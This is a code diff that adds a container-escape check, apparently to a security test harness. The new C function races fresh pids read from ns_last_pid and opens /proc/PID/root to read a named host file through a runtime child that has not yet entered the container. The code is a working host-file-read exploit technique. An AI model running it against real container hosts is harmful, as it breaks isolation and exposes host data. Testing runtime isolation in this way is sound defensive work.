@@ -271,3 +271,38 @@ int attack_runtime_ptrace(int argc, char **argv)
     ptrace(PTRACE_DETACH, pid, NULL, NULL);
     ok("attached to runtime pid %d", (int)pid);
 }
+
+/* proc_root_read TIMEOUT_MS HOSTPATH: a process that appears in our pid namespace
+ * while it still has the host's root (a runtime's child joining the container
+ * in the wrong order) is caught through /proc/PID/root, which needs only
+ * ptrace read access (CAP_SYS_PTRACE, no ptrace syscall). The next pids are
+ * guessed from ns_last_pid; prints the host file's first line. */
+int attack_proc_root_read(int argc, char **argv)
+{
+    NEED_ARGS(3);
+    long long deadline = now_ms() + atoi(argv[1]);
+    const char *host = argv[2];
+    while (now_ms() < deadline) {
+        char buf[32] = "";
+        int f = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
+        if (f < 0)
+            fail("ns_last_pid", errno);
+        ssize_t n = read(f, buf, sizeof buf - 1);
+        close(f);
+        int last = n > 0 ? atoi(buf) : 0;
+        for (int k = 0; k <= 4; k++) {
+            char path[4200];
+            snprintf(path, sizeof path, "/proc/%d/root%s", last + k, host);
+            int fd = open(path, O_RDONLY | O_CLOEXEC);
+            if (fd < 0)
+                continue;
+            char line[128] = "";
+            ssize_t r = read(fd, line, sizeof line - 1);
+            close(fd);
+            line[r > 0 ? r : 0] = 0;
+            line[strcspn(line, "\n")] = 0;
+            ok("read the host's %s through /proc/%d/root: %s", host, last + k, line);
+        }
+    }
+    fail("find-host-root", ETIMEDOUT);
+}
